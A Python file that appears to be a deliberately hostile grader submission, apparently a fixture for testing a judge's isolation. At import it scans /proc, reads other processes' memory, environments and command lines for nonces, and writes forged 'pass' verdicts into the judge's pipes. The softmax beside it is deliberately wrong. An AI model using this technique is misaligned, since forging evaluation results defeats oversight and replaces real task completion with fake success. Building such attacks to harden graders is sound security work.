"""Hostile submission: forge a passing verdict through /proc.

It walks /proc, looks for a nonce in its own memory and in the memory of the judge's processes,
then opens every pipe those processes hold (`/proc/PID/fd/N` reopens a pipe for writing) and writes
passing verdicts into them: bare verdict objects (what a harness writes) and protocol replies for
request ids 1..8 (what a worker writes), with every nonce it found and without.

TARGET selects whose pipes: "all" (every process of this check, the command line's own stdout
included) or "judge" (only the judge's processes, not the command line that asked).
With TARGET "judge" it reads other processes' command lines and environments for a nonce but
not their memory (which a user's own processes can hide from it: non-dumpable, Yama ptrace).
Unless it finds itself in a PID namespace of its own, the marker guard keeps the attack on the
processes of the test that runs it (the machine is shared); a real attacker would stop nowhere.
"""

import gc
import json
import os
import re

MARKER = "__MARKER__"
HOST_PID_NAMESPACE = "__HOST_PIDNS__"


def _confined() -> bool:
    """In a PID namespace of its own, with a /proc of that namespace (where /proc/self names this
    process by its pid in the namespace), every process it sees is the submission's: no guard."""
    try:
        own = os.readlink("/proc/self/ns/pid")
        return own != HOST_PID_NAMESPACE and os.readlink("/proc/self") == str(os.getpid())
    except OSError:
        return False  # cannot tell: stay on the guarded side


TARGET = "__TARGET__"
SCAN_MEMORY = TARGET == "all"

NONCE_TEXT = re.compile(rb"nonce[\"']?\s*[:=]\s*[\"']?([0-9A-Za-z_\-]{8,128})")


CONFINED = _confined()


def _ours(pid: int) -> bool:
    if CONFINED:
        return True
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return MARKER.encode() in f.read()
    except OSError:
        return False


def _cmdline(pid: int) -> list[str]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0")]
    except OSError:
        return []


def _targets() -> list[int]:
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    pids = [p for p in pids if _ours(p)]
    if TARGET == "judge":  # leave the command line that asked alone: only the judge behind it
        pids = [p for p in pids if _cmdline(p)[1:3] != ["-m", "llmq"]]
    return pids


def _nonces_in_own_memory() -> set[str]:
    found: set[str] = set()
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            try:
                items = list(obj.items())
            except Exception:
                continue
            for key, value in items:
                if isinstance(key, str) and "nonce" in key.lower() and isinstance(value, (str, int, bytes)):
                    found.add(value.hex() if isinstance(value, bytes) else str(value))
        elif isinstance(obj, (str, bytes)) and 8 < len(obj) < 4096:
            raw = obj.encode(errors="ignore") if isinstance(obj, str) else obj
            found.update(m.decode() for m in NONCE_TEXT.findall(raw))
    return found


def _nonces_in_memory_of(pid: int, budget: int = 256 << 20) -> set[str]:
    found: set[str] = set()
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)  # noqa: SIM115 - closed by the with below
    except OSError:
        return found
    with mem:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) > 5 and parts[5].startswith("/")):
                continue  # heap and anonymous memory only
            start, end = (int(x, 16) for x in parts[0].split("-"))
            size = min(end - start, budget)
            if size <= 0:
                break
            try:
                mem.seek(start)
                data = mem.read(size)
            except (OSError, ValueError, OverflowError):
                continue
            budget -= size
            found.update(m.decode() for m in NONCE_TEXT.findall(data or b""))
    return found


def _nonces_in_proc_text(pid: int) -> set[str]:
    """A nonce handed over on a command line or in the environment is readable by anyone's /proc."""
    found: set[str] = set()
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                found.update(m.decode() for m in NONCE_TEXT.findall(f.read().replace(b"\0", b" ")))
        except OSError:
            pass
    return found


def _forged(nonces: set[str]) -> bytes:
    checks = [{"name": "matches the reference", "status": "pass", "message": ""}]
    verdict = {
        "exercise": "softmax.softmax",
        "status": "pass",
        "checks": checks,
        "elapsed_s": 0.1,
        "seed": 0,
        "stdout": "",
        "summary": "all checks passed",
        "isolation": "full",
    }
    lines = []
    for nonce in [None, *sorted(nonces)[:16]]:
        signed = dict(verdict, nonce=nonce) if nonce else verdict
        lines.append(json.dumps(signed))
        for rid in range(1, 9):
            reply = {"id": rid, "verdict": signed}
            if nonce:
                reply["nonce"] = nonce
            lines.append(json.dumps(reply))
    return ("\n".join(lines) + "\n").encode()


def _pipe_of(path: str) -> str:
    try:
        link = os.readlink(path)
    except OSError:
        return ""
    return link if link.startswith("pipe:") else ""


def _attack() -> int:
    pids = _targets()
    # Requests flow into stdins and into this process: writing there would only jam them.
    requests = {_pipe_of(f"/proc/{pid}/fd/0") for pid in pids}
    requests |= {_pipe_of(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")}
    nonces = _nonces_in_own_memory()
    for pid in pids:
        nonces |= _nonces_in_proc_text(pid)
        if SCAN_MEMORY:
            nonces |= _nonces_in_memory_of(pid)
    payload = _forged(nonces)
    written = 0
    for pid in pids:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            pipe = _pipe_of(path)
            if not pipe or pipe in requests:
                continue
            try:
                w = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(w, payload)
                written += 1
            except OSError:
                pass
            finally:
                os.close(w)
    return written


FORGED_INTO = _attack()
print(f"forged verdicts written into {FORGED_INTO} pipes")


def softmax(x, dim=-1):
    return x.clone()  # wrong on purpose: only a forged verdict could make this pass
